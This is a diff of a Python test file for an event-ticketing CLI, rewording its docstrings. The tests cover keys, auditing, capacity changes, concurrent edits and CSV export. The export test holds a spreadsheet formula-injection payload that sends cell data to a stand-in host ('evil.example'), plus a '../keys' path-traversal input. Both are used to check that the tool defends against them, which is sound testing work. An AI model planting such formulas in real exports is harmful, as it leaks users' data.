@@ -34,7 +34,7 @@ class Commands(Room, ServiceCase):
 
     @property
     def url(self):
-        """Where the service is."""
+        """The service's address."""
         return f"http://127.0.0.1:{self.server.port}"
 
     def run_it(self, *arguments, key="operator", url=None, **more):
@@ -45,13 +45,13 @@ class Commands(Room, ServiceCase):
         return command(*arguments, env=environment, **more)
 
     def fine(self, *arguments, **more):
-        """Run a command that has to work; return what it printed."""
+        """Run a command that must succeed; return its output."""
         run = self.run_it(*arguments, **more)
         self.assertEqual((run.returncode, run.stderr), (0, ""), run)
         return run.stdout
 
     def shown(self, name):
-        """Return the event as the API tells it."""
+        """Return the event from the API."""
         return self.server.get(f"/v1/events/{name}").json()
 
     def make(self, places=10, **members):
@@ -85,8 +85,8 @@ class Commands(Room, ServiceCase):
             self.assertIn(word, shown)
 
     def test_looking(self):
-        """list and show need no key, show what the API tells, and --json is its very answer."""
-        # What turns or hides no text: it is shown as it is, and nothing worse can be in a name.
+        """list and show need no key and show the API's answer; with --json byte for byte."""
+        # A name cannot contain characters that turn or hide text, so it is shown unchanged.
         name, _, _ = self.make({"floor": 12_345}, name="Evil \u200f name", hold_seconds=77)
         self.server.ask("GET", f"/v1/events/{name}")
         lines = [line.split(None, 2) for line in self.fine("event", "list", key=None).splitlines()]
@@ -107,7 +107,7 @@ class Commands(Room, ServiceCase):
         self.assertEqual(self.run_it("event", "show", "../keys").returncode, 64)
 
     def test_buckets(self):
-        """Where an event discloses no numbers, show has its words, and the numbers with a key."""
+        """If an event discloses no numbers, show has words, and numbers only with a key."""
         name, _, _ = self.make(1_234, disclose="buckets")
         shown = self.fine("event", "show", name, key=None)
         self.assertIn("available", shown)
@@ -115,7 +115,7 @@ class Commands(Room, ServiceCase):
         self.assertEqual(self.fine("event", "show", name).count("1,234"), 2)
 
     def test_pausing(self):
-        """pause stops new holds, resume sells again; both can be said twice."""
+        """pause stops new holds, resume sells again; repeating either changes nothing."""
         name, _, _ = self.make()
         for _ in range(2):
             self.assertEqual(self.fine("event", "pause", name), f"{name} is paused\n")
@@ -127,8 +127,8 @@ class Commands(Room, ServiceCase):
         self.one_line(self.run_it("event", "pause", "nowhere"), 1, "unknown-event")
 
     def test_keys(self):
-        """A key comes from the environment or a file, never from the command line; each refusal says what is wrong,
-        and none tells the key."""
+        """A key comes from the environment or a file, never from the command line; refusals say what is wrong, but not
+        the key."""
         name, _, _ = self.make()
         file = self.file("key", f"{self.key}\n")
         wrong = self.key[:-1] + ("A" if self.key[-1] != "A" else "Q")
@@ -155,14 +155,14 @@ class Commands(Room, ServiceCase):
         self.assertIs(self.shown(name)["paused"], False)
 
     def test_audit_names_the_key(self):
-        """What a command changed stands in the audit under its key."""
+        """The audit has each change of a command under its key."""
         name, _, _ = self.make()
         self.fine("event", "pause", name)
         rows = self.server.rows(f"SELECT action, key FROM audit WHERE subject = '{name}' ORDER BY seq")
         self.assertEqual(rows, [("event.define", self.key.split("_")[1]), ("event.pause", self.key.split("_")[1])])
 
     def test_defining(self):
-        """define makes an event, leaves it alone where nothing is different, and tells every difference."""
+        """define makes an event, leaves an equal one alone, and shows every difference."""
         name, document, path = self.make({"floor": 10, "box": 2})
         self.assertEqual(self.shown(name)["definition"]["pools"], {"floor": 10, "box": 2})
         tag = self.server.get(f"/v1/events/{name}").header("etag")
@@ -192,7 +192,7 @@ class Commands(Room, ServiceCase):
         self.assertEqual(answer, self.shown(name))
 
     def test_mistakes_in_files(self):
-        """Every mistake of every file is told at once with its place, and nothing is done."""
+        """Every mistake of every file is shown at once with its place, and nothing is done."""
         good = self.file("good.json", event(1, "never-made"))
         bad = self.file("bad.json", event({"floor": -1}, "b d", hold_seconds=0, wrong=1))
         broken = self.file("broken.json", '{"id": "x",\n  "pools" 3}')
@@ -205,7 +205,7 @@ class Commands(Room, ServiceCase):
         self.assertEqual(self.run_it("event", "define").returncode, 64)
 
     def test_the_service_refuses(self):
-        """What only the service can see is told with its place, too, and nothing is changed."""
+        """A mistake that only the service can see is shown with its place, too, and nothing is changed."""
         name, document, _ = self.make({"floor": 10, "box": 2})
         self.assertEqual(self.hold(name, "BOX").status, 201)
         del document["pools"]["box"]
@@ -221,7 +221,7 @@ class Commands(Room, ServiceCase):
         self.one_line(run, 1, "large", "content-too-large")
 
     def test_capacity(self):
-        """A pool gets a number of places, or some more, or some fewer; a slip of the pen changes nothing."""
+        """capacity sets, adds or removes places of a pool; a typing mistake changes nothing."""
         name, _, _ = self.make({"floor": 5_000, "box": 2})
         for number, places, before in (("6000", "6,000", "5,000"), ("+100", "6,100", "6,000"),
                                        ("-99", "6,001", "6,100"), ("+0", "6,001", "6,001"), ("0", "0", "6,001")):
@@ -244,7 +244,7 @@ class Commands(Room, ServiceCase):
         self.assertEqual(self.server.get(f"/v1/events/{name}").header("etag"), tag)
 
     def change(self, name, document, method="PATCH"):
-        """Change an event as somebody else, or make it."""
+        """Change or make an event as another operator."""
         fields = [f"Authorization: Bearer {self.key}", "Content-Type: application/json"]
         answer = self.server.ask(method, f"/v1/events/{name}", fields + ["If-Match: *"] * (method == "PATCH"),
                                  json.dumps(document).encode())
@@ -252,7 +252,7 @@ class Commands(Room, ServiceCase):
 
     @contextlib.contextmanager
     def meddler(self, name, times, document, method="PATCH"):
-        """Stand before the service and change the event after each of the first looks at it."""
+        """Stand in front of the service, and change the event after each of the first reads of it."""
         seen = []
 
         def look(handler):
@@ -274,7 +274,7 @@ class Commands(Room, ServiceCase):
         self.assertEqual(len(seen), times)
 
     def test_somebody_is_faster(self):
-        """define overwrites nobody's change; capacity adds to what is there then, and gives up after a few times."""
+        """define overwrites no other change; capacity adds to the current number, and gives up after a few tries."""
         name, document, _ = self.make({"floor": 100})
         path = self.file("mine.json", document | {"hold_seconds": 99})
         with self.meddler(name, 1, lambda _: {"name": "theirs"}) as url:
@@ -294,7 +294,7 @@ class Commands(Room, ServiceCase):
         self.assertEqual(self.shown(name)["definition"]["pools"], {"floor": 2})
 
     def test_export(self):
-        """What is exported, to a file or to a pipe, is what the API streams."""
+        """An export, to a file or to a pipe, is what the API streams."""
         name, _, _ = self.make(1_000, types=SHOP["types"])
         for number in range(12):
             self.sell(name, kind=("GA", "BOX")[number % 2], payment_reference=f"{name},\"{number}")
@@ -314,7 +314,7 @@ class Commands(Room, ServiceCase):
         self.assertEqual([row["payment_reference"] for row in rows], [f"{name},\"{number}" for number in range(12)])
 
     def test_export_of_formulas(self):
-        """What a spreadsheet would calculate begins with an apostrophe in CSV, unless it is kept; --bom marks UTF-8."""
+        """In CSV a formula gets an apostrophe, unless formulas are kept; --bom marks UTF-8."""
         name, _, _ = self.make(1_000)
         plain = ["A=1", "1+1", "'", "a-b@c.example", "é"]
         formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2", "@SUM(A1)", "\uff1d1"]
@@ -336,7 +336,7 @@ class Commands(Room, ServiceCase):
             self.assertEqual(self.run_it("export", "purchases", name, "--format", "ndjson", flag).returncode, 64)
 
     def test_export_and_files(self):
-        """A file that is there is kept unless it is forced; where none can be made, that is said; nothing is left."""
+        """An export replaces a file only with --force, says if it cannot make one, and leaves nothing behind."""
         room = self.room()
         path = os.path.join(room, "out.csv")
         pathlib.Path(path).write_text("precious")
@@ -361,7 +361,7 @@ class Commands(Room, ServiceCase):
         self.assertEqual(self.run_it("export", "purchases", "shop", "--force").returncode, 64)
 
     def test_serving_with_the_variables(self):
-        """The service starts where the commands' variables are set, and does not tell the key."""
+        """The service starts although the commands' variables are set, and does not print the key."""
         with Server(event(5), environment={"HOLDFAST_URL": NOBODY, "HOLDFAST_KEY": self.key}) as server:
             self.assertNotIn(self.key[13:], server.everything_said())
         self.one_line(command("event", "list", env={"HOLDFAST_UARL": "x"}), 64, "HOLDFAST_URL?")
